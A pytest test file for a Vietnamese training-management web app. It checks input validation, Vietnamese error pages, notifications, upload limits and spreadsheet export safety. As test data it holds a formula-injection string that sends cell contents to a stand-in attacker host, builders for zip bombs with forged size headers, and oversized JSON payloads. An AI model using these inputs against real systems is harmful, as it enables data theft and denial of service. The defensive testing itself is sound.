"""Issue 9, items 4–6: no server error from what a user can send (parameters, JSON bodies,
uploads), error pages in Vietnamese even with the database down, the notifications page, and
exports where a cell that looks like a formula stays text."""
from __future__ import annotations

import base64
import html
import io
import json
import re
import struct
import zipfile

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa
from werkzeug.datastructures import MultiDict

from tests.conftest import make_app
from tests.test_jobs import download_export
from trainer.core.extensions import db

HUGE = "99999999999999999999"
EVIL = '=HYPERLINK("http://ke-gian.example/"&A4,"bấm")'


def text(response) -> str:
    return html.unescape(response.get_data(as_text=True))


@pytest.fixture
def world(app, catalog, province, make_user, make_official):
    from trainer.catalog.models import Provider
    top, a, _ = province
    official = make_official(unit_id=a.id, full_name="Lò Thị Mai")
    db.session.commit()
    provider = db.session.scalar(sa.select(Provider).where(Provider.code == "BDHVS"))
    users = {"admin": make_user("admin"), "hr_tinh": make_user("hr", unit_id=top.id),
             "hr_xa": make_user("hr", unit_id=a.id),
             "official": make_user("official", official_id=official.id),
             "school": make_user("school", provider_id=provider.id)}
    clients = {}
    for role, user in users.items():
        client = app.test_client()
        assert client.post("/dang-nhap", data={"username": user.username,
                                               "password": "matkhau123"}).status_code == 302
        clients[role] = client
    return {"users": users, "clients": clients, "official": official, "provider": provider,
            "units": province}


# ---------------------------------------------------------------------------- parameters
@pytest.mark.parametrize("role, url, status", [
    ("hr_tinh", "/can-bo?format=csv", 400),
    ("hr_tinh", f"/can-bo?position={HUGE}", 404),
    ("hr_tinh", "/can-bo?unit=abc", 400),
    ("hr_tinh", "/can-bo?page=0", 400),
    ("hr_tinh", f"/can-bo/{HUGE}", 404),
    ("admin", f"/truong/nhu-cau?provider={HUGE}", 404),
    ("hr_xa", f"/dat-hang/moi?course={HUGE}", 404),
    ("hr_tinh", f"/ke-hoach?nam={HUGE}", 400),
    ("hr_tinh", "/ke-hoach?nam=-1", 400),
    ("hr_tinh", f"/ke-hoach/tong-hop?year={HUGE}", 400),
    ("hr_tinh", f"/ke-hoach/tong-hop/excel?year={HUGE}", 400),
    ("hr_tinh", f"/bao-cao/thieu-hut?unit={HUGE}", 404),
    ("hr_tinh", "/bao-cao/thieu-hut?format=pdf", 400),
    ("hr_tinh", "/xuat-csdl-quoc-gia?format=csv", 400),
    ("hr_tinh", "/can-bo?q=a%00b", 400),
    ("hr_tinh", "/muc-tieu/%00", 400),
    ("school", "/truong/lop/moi?course=%C2%B2", 400),   # "²".isdigit() is True
])
def test_a_bad_parameter_answers_4xx_in_vietnamese_never_500(world, role, url, status):
    response = world["clients"][role].get(url)
    assert response.status_code == status, (url, response.status_code)
    page = text(response)
    assert f"Lỗi {status}" in page and "Internal Server Error" not in page
    if status == 400:
        assert "Tham số" in page or "ký tự không hợp lệ" in page or "Định dạng" in page, page


def test_the_error_page_names_the_parameter_and_the_accepted_values(world):
    page = text(world["clients"]["hr_tinh"].get("/can-bo?format=csv"))
    assert "Tham số “format” không hợp lệ (nhận được “csv”): chọn “xlsx”." in page
    page = text(world["clients"]["hr_tinh"].get("/ke-hoach?nam=-1"))
    assert "Tham số “nam” phải là số nguyên từ 2000 đến 2100" in page


def test_query_parameters_never_reach_url_for_keywords(world):
    page = world["clients"]["hr_tinh"].get(
        "/can-bo?_external=1&_scheme=javascript&q=Mai").get_data(as_text=True)
    assert "javascript:" not in page and "_scheme" not in page


def test_a_form_with_an_unreadable_id_is_refused_not_a_server_error(world):
    from trainer.learning.models import Cohort
    official = world["clients"]["official"]
    assert official.post("/dang-ky", data={"cohort_id": "²"}).status_code == 400
    assert official.post("/dang-ky", data={"cohort_id": HUGE}).status_code == 404
    hr = world["clients"]["hr_xa"]
    assert hr.post("/dat-hang/moi", data={"course_id": HUGE}).status_code == 404
    assert db.session.scalar(sa.select(sa.func.count(Cohort.id))) == 0


def test_the_parameter_helpers(app):
    from trainer.core import params
    with app.test_request_context("/?n=42&big=" + HUGE + "&d=05/03/2026&iso=2026-03-05&f=xlsx"
                                  "&bad=31/02/2026&sup=%C2%B2"):
        assert params.arg_int("n", min=1, max=100) == 42
        assert params.arg_int("missing", min=1, max=100, default=7) == 7
        assert params.arg_choice("f", ("xlsx", "json")) == "xlsx"
        assert str(params.arg_date("d")) == str(params.arg_date("iso")) == "2026-03-05"
        for call in (lambda: params.arg_int("big", min=1, max=100),
                     lambda: params.arg_int("sup", min=0, max=9),
                     lambda: params.arg_choice("n", ("xlsx",)),
                     lambda: params.arg_date("bad"), lambda: params.arg_id("sup")):
            with pytest.raises(params.BadParameter):
                call()
        with pytest.raises(Exception) as e:
            params.arg_id("big")
        assert getattr(e.value, "code", None) == 404
        assert params.form_ids("n", MultiDict([("n", "3"), ("n", "7")])) == {3, 7}


# ---------------------------------------------------------------------------- JSON bodies
def _xapi_headers(provider):
    from trainer.xapi.operations import create_xapi_credential
    credential, secret = create_xapi_credential(provider)
    db.session.commit()
    token = base64.b64encode(f"{credential.key}:{secret}".encode()).decode()
    return {"Authorization": f"Basic {token}", "X-Experience-API-Version": "1.0.3",
            "Content-Type": "application/json"}


@pytest.mark.parametrize("body, status, says", [
    ("[" * 100_000, 400, "lồng nhau quá 32 tầng"),
    ("[" * 5000 + "]" * 5000, 400, "lồng nhau quá 32 tầng"),
    ('{"a":' * 5000 + "1" + "}" * 5000, 400, "lồng nhau quá 32 tầng"),
    ("[" + ",".join(["{}"] * 1001) + "]", 413, "quá 1.000 phần tử"),
    ('{"actor": {"name": "' + "x" * 20_001 + '"}}', 400, "quá giới hạn 20.000 ký tự"),
    ('{"actor": {"name": "a\\u0000"}}', 400, "NUL"),
    ("1" * 5000, 400, "quá 100 chữ số"),
    ('{"id": ', 400, "không phải JSON hợp lệ (dòng 1"),
])
def test_xapi_refuses_bodies_beyond_the_limits_as_json_with_its_version(app, world, body,
                                                                        status, says):
    response = app.test_client().post("/xapi/statements", data=body,
                                      headers=_xapi_headers(world["provider"]))
    assert response.status_code == status
    assert response.mimetype == "application/json"
    assert response.headers["X-Experience-API-Version"] == "1.0.3"
    assert says in response.get_json()["message"]


def test_xapi_limits_come_from_the_settings(app, world):
    app.config["XAPI_MAX_DEPTH"] = 3
    response = app.test_client().post("/xapi/statements", data='{"a": {"b": {"c": {}}}}',
                                      headers=_xapi_headers(world["provider"]))
    assert response.status_code == 400 and "quá 3 tầng" in response.get_json()["message"]
    response = app.test_client().get("/xapi/statements", query_string={
        "agent": "[" * 10_000, "limit": "9" * 5000}, headers=_xapi_headers(world["provider"]))
    assert response.status_code == 400 and "agent" in response.get_json()["message"]


def test_the_json_api_refuses_deep_or_long_bodies_and_answers_json_everywhere(app, world):
    from trainer.api.auth import issue_token
    client = app.test_client()
    auth = {"Authorization": f"Bearer {issue_token(world['users']['official'])[1]}",
            "Content-Type": "application/json"}
    db.session.commit()
    for body in ("[" * 100_000, '{"cohort_id": ' + "[" * 5000 + "]" * 5000 + "}",
                 '{"reason": "' + "x" * 30_000 + '"}'):
        response = client.post("/api/v1/enrollments", data=body, headers=auth)
        assert (response.status_code, response.mimetype) == (400, "application/json")
        assert "Nội dung" in response.get_json()["error"]
    for method, path, allow in (("DELETE", "/api/v1/officials", "GET"),
                                ("TRACE", "/api/v1/officials", "GET"),
                                ("PROPFIND", "/api/v1/enrollments", "GET, POST"),
                                ("PATCH", "/api/v1/enrollments/1/withdraw", "POST")):
        response = client.open(path, method=method, headers=auth)
        assert (response.status_code, response.mimetype) == (405, "application/json"), path
        assert response.headers["Allow"] == allow, (method, path)
        assert "error" in response.get_json()
    for path in ("/api/v1", "/api/v1/", "/api/v1/khong-co", f"/api/v1/officials/{HUGE}"):
        response = client.get(path, headers=auth)
        assert (response.status_code, response.mimetype) == (404, "application/json"), path


# ---------------------------------------------------------------------------- error pages
DEAD_DATABASE = "postgresql+psycopg://x@127.0.0.1:1/x"


def test_error_pages_render_in_vietnamese_without_the_database(app, world):
    """The database down: the sign-in needs it (503, the normal page: nobody is signed in);
    a signed-in page needs it before anything else, and so does base.html (its menu reads
    the user) — the standalone page answers, not Flask's bare English one."""
    cookie = world["clients"]["hr_tinh"].get_cookie("session")
    down = make_app(DEAD_DATABASE, SECRET_KEY=app.config["SECRET_KEY"],
                    PROPAGATE_EXCEPTIONS=False)
    anonymous = down.test_client()
    response = anonymous.post("/dang-nhap", data={"username": "a", "password": "b"})
    page = text(response)
    assert response.status_code == 503 and response.headers["Retry-After"] == "60"
    assert "Lỗi 503" in page and "không truy cập được cơ sở dữ liệu" in page
    assert 'class="navbar' in page
    signed_in = down.test_client()
    signed_in.set_cookie("session", cookie.value)
    response = signed_in.get("/can-bo")
    page = text(response)
    assert response.status_code == 503, page[:300]
    assert "Lỗi 503" in page and "Vui lòng thử lại sau ít phút" in page
    assert "Internal Server Error" not in page and 'lang="vi"' in page
    assert "bootstrap" in page and ".css" in page  # the same look
    assert "Đăng xuất" not in page  # no menu: it would need the user
    assert anonymous.get("/khong-co").status_code == 404
    assert "Không tìm thấy" in text(anonymous.get("/khong-co"))


def test_a_server_error_is_a_vietnamese_500_page(_schema):
    crashing = make_app(_schema, PROPAGATE_EXCEPTIONS=False)

    @crashing.route("/hong")
    def broken():
        raise RuntimeError("hỏng")
    response = crashing.test_client().get("/hong")
    assert response.status_code == 500
    page = text(response)
    assert "Lỗi 500" in page and "Hệ thống gặp lỗi" in page and 'class="navbar' in page
    with crashing.app_context():
        db.engine.dispose()


# ---------------------------------------------------------------------------- notifications
def test_an_official_sees_the_notifications_and_then_the_badge_drops(world):
    from trainer.notices.models import Notification
    from trainer.notices.operations import notify
    for title in ("Mời học lớp Kỹ năng số", "Kết quả khóa Văn bản điện tử: Hoàn thành"):
        notify(world["official"], "invitation", title, "Chi tiết trong trang khóa học.",
               link="/khoa-cua-toi")
    db.session.commit()
    client = world["clients"]["official"]
    home = text(client.get("/khoa-cua-toi"))
    assert re.search(r"Thông báo <span class=\"badge[^\"]*\">2</span>", home)
    response = client.get("/thong-bao")
    assert response.status_code == 200
    page = text(response)
    assert "Mời học lớp Kỹ năng số" in page and "Kết quả khóa Văn bản điện tử" in page
    assert page.count("list-group-item-primary") == 2  # shown as new, this once
    db.session.expire_all()
    assert db.session.scalar(sa.select(sa.func.count(Notification.id)).where(
        Notification.read_at.is_(None))) == 0
    after = text(client.get("/khoa-cua-toi"))
    assert re.search(r"Thông báo <span class=\"badge", after) is None
    again = text(client.get("/thong-bao"))
    assert "Mời học lớp Kỹ năng số" in again and "list-group-item-primary" not in again


def test_notifications_stay_unread_when_the_page_cannot_be_shown(app, world, monkeypatch):
    from trainer.notices import views
    from trainer.notices.models import Notification
    from trainer.notices.operations import notify
    notify(world["official"], "invitation", "Mời học")
    db.session.commit()

    def broken(*args, **kwargs):
        raise RuntimeError("hỏng")
    monkeypatch.setattr(views, "render_template", broken)
    app.config["PROPAGATE_EXCEPTIONS"] = False
    assert world["clients"]["official"].get("/thong-bao").status_code == 500
    db.session.expire_all()
    assert db.session.scalar(sa.select(Notification.read_at)) is None


# ---------------------------------------------------------------------------- uploads
def _upload(client, data: bytes, filename: str, kind: str = "ratings"):
    return client.post("/nhap-du-lieu", data={"kind": kind, "file": (io.BytesIO(data), filename)},
                       content_type="multipart/form-data")


def _xlsx(rows: int, *, dimension: bool = True) -> bytes:
    buf = io.BytesIO()
    frame = pd.DataFrame({"Số định danh cá nhân": [f"0121900{i:05d}" for i in range(rows)],
                          "Năm": ["2025"] * rows, "Xếp loại": ["Hoàn thành nhiệm vụ"] * rows})
    frame.to_excel(buf, index=False)
    data = buf.getvalue()
    if dimension:
        return data
    return _rezip(data, lambda name, body: re.sub(rb"<dimension[^>]*/>", b"", body)
                  if name.startswith("xl/worksheets/") else body)


def _rezip(data: bytes, change) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, change(info.filename, src.read(info)))
    return out.getvalue()


def _bomb(megabytes: int) -> bytes:
    """A valid workbook whose sheet is `megabytes` MB of the same row."""
    row = (b'<row><c t="inlineStr"><is><t>012190000001</t></is></c><c><v>2025</v></c></row>')
    sheet = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
             b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             + row * (megabytes * 2**20 // len(row)) + b"</sheetData></worksheet>")
    return _rezip(_xlsx(1), lambda name, body: sheet if name == "xl/worksheets/sheet1.xml"
                  else body)


def _lie_about_sizes(data: bytes, entry: str, size: int) -> bytes:
    """The zip with `entry`'s uncompressed size written as `size` in both of its headers."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(entry)
    struct.pack_into("<L", out, info.header_offset + 22, size)  # local header
    for record in re.finditer(rb"PK\x01\x02", bytes(out)):  # its central directory record
        at = record.start()
        name_length = struct.unpack_from("<H", out, at + 28)[0]
        if bytes(out[at + 46:at + 46 + name_length]) == entry.encode():
            struct.pack_into("<L", out, at + 24, size)
    return bytes(out)


def test_an_xlsx_over_the_row_limit_is_refused_before_parsing(app, world, monkeypatch):
    import trainer.core.tabular
    app.config["IMPORT_MAX_ROWS"] = 5
    parsed = []
    monkeypatch.setattr(trainer.core.tabular.pd, "read_excel",
                        lambda *a, **k: parsed.append(1) or pd.DataFrame())
    page = text(_upload(world["clients"]["hr_tinh"], _xlsx(6), "nhieu.xlsx"))
    assert ("Tệp “nhieu.xlsx” có 7 dòng (kể cả dòng tiêu đề), quá giới hạn 5 dòng mỗi tệp — "
            "hãy chia tệp.") in page
    assert parsed == []  # the <dimension> said so: the sheet was never parsed
    monkeypatch.undo()
    page = text(_upload(world["clients"]["hr_tinh"], _xlsx(5), "du.xlsx"))
    assert "quá giới hạn" not in page and "Tệp có 5 lỗi" in page  # unknown officials


def test_a_sheet_without_dimension_is_counted_after_parsing(app, world):
    app.config["IMPORT_MAX_ROWS"] = 5
    data = _xlsx(1_000, dimension=False)
    assert b"<dimension" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    page = text(_upload(world["clients"]["hr_tinh"], data, "khong-kich-thuoc.xlsx"))
    assert "có 1.001 dòng (kể cả dòng tiêu đề), quá giới hạn 5 dòng" in page


def test_a_csv_over_the_row_limit_is_refused_by_counting_lines(app, world):
    app.config["IMPORT_MAX_ROWS"] = 5
    data = ("Số định danh cá nhân,Năm,Xếp loại\n" + "012190000001,2025,Hoàn thành\n" * 100)
    page = text(_upload(world["clients"]["hr_tinh"], data.encode(), "nhieu.csv"))
    assert "Tệp “nhieu.csv” có 101 dòng (kể cả dòng tiêu đề), quá giới hạn 5 dòng" in page


def test_zip_bombs_are_refused_before_parsing(app, world):
    app.config["IMPORT_MAX_UNCOMPRESSED_MB"] = 1
    client = world["clients"]["hr_tinh"]
    bomb = _bomb(3)
    assert len(bomb) < 100_000
    page = text(_upload(client, bomb, "bom.xlsx"))
    assert "Tệp “bom.xlsx” khi giải nén có 3 MB, quá giới hạn 1 MB — hãy chia tệp." in page
    # Headers that lie (the sheet says 1 KB): the sheet is inflated and counted, never trusted.
    liar = _lie_about_sizes(bomb, "xl/worksheets/sheet1.xml", 1000)
    assert zipfile.ZipFile(io.BytesIO(liar)).getinfo("xl/worksheets/sheet1.xml").file_size == 1000
    page = text(_upload(client, liar, "noi-doi.xlsx"))
    assert "Tệp “noi-doi.xlsx” khi giải nén vượt quá giới hạn 1 MB" in page
    # Within the size but compressed like no sheet is.
    app.config["IMPORT_MAX_UNCOMPRESSED_MB"] = 50
    page = text(_upload(client, _bomb(20), "nen.xlsx"))
    assert "bị nén bất thường (tỉ lệ" in page and "không mở" in page


@pytest.mark.parametrize("encoding", ["cp1258", "utf-16"])
def test_a_csv_in_another_encoding_says_to_save_it_as_csv_utf8(world, encoding):
    data = "Số định danh cá nhân,Năm,Xếp loại\n012190000001,2025,Hoàn thành tốt\n"
    # Windows-1258 writes some letters as a base and a combining tone; "?" for the others.
    page = text(_upload(world["clients"]["hr_tinh"], data.encode(encoding, errors="replace"),
                        "xep-loai.csv"))
    assert "Không đọc được tệp “xep-loai.csv”" in page and "“CSV UTF-8" in page
    assert "codec" not in page and "decode" not in page


# ---------------------------------------------------------------------------- exports
def _cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def test_exports_write_formula_lookalikes_as_text(world, make_official):
    _, a, _ = world["units"]
    make_official(unit_id=a.id, full_name=EVIL, ethnicity="@SUM(1)")
    db.session.commit()
    hr = world["clients"]["hr_tinh"]
    for url in ("/can-bo?format=xlsx", "/xuat-csdl-quoc-gia?format=xlsx",
                "/xuat-csdl-quoc-gia?format=issues"):
        # The officials list is a background job (docs/jobs.md): fetched as a user does.
        response = download_export(hr, url) if url.startswith("/can-bo") else hr.get(url)
        assert response.status_code == 200, url
        cells = _cells(response.data)
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], url
        assert EVIL in [c.value for c in cells], url


def test_an_exported_table_with_a_formula_lookalike_imports_back_unchanged(world):
    from trainer.org.models import Unit
    _, a, _ = world["units"]
    a.name = "=1+2 Xã A"
    db.session.commit()
    hr = world["clients"]["hr_tinh"]
    data = hr.get("/nhap-du-lieu/mau/units.xlsx?all=1").data
    assert [c.value for c in _cells(data) if c.data_type == "f"] == []
    assert "=1+2 Xã A" in [c.value for c in _cells(data)]
    page = text(_upload(hr, data, "don-vi.xlsx", kind="units"))
    created, updated, unchanged = (re.search(rf'id="n-{k}">([\d.]+)<', page).group(1)
                                   for k in ("created", "updated", "unchanged"))
    assert (created, updated) == ("0", "0") and int(unchanged) == 3, page[:2000]
    assert db.session.get(Unit, a.id).name == "=1+2 Xã A"


def test_the_import_templates_and_class_sheets_have_no_formulas(world):
    from trainer.core.tabular import template_bytes
    data = template_bytes(["Họ và tên", "Ghi chú"], {"Họ và tên": EVIL, "Ghi chú": "+84 912"})
    cells = _cells(data)
    assert [c for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells] == ["Họ và tên", "Ghi chú", EVIL, "+84 912"]
    assert json.dumps(pd.read_excel(io.BytesIO(data), dtype=str).iloc[0].tolist(),
                      ensure_ascii=False) == json.dumps([EVIL, "+84 912"], ensure_ascii=False)
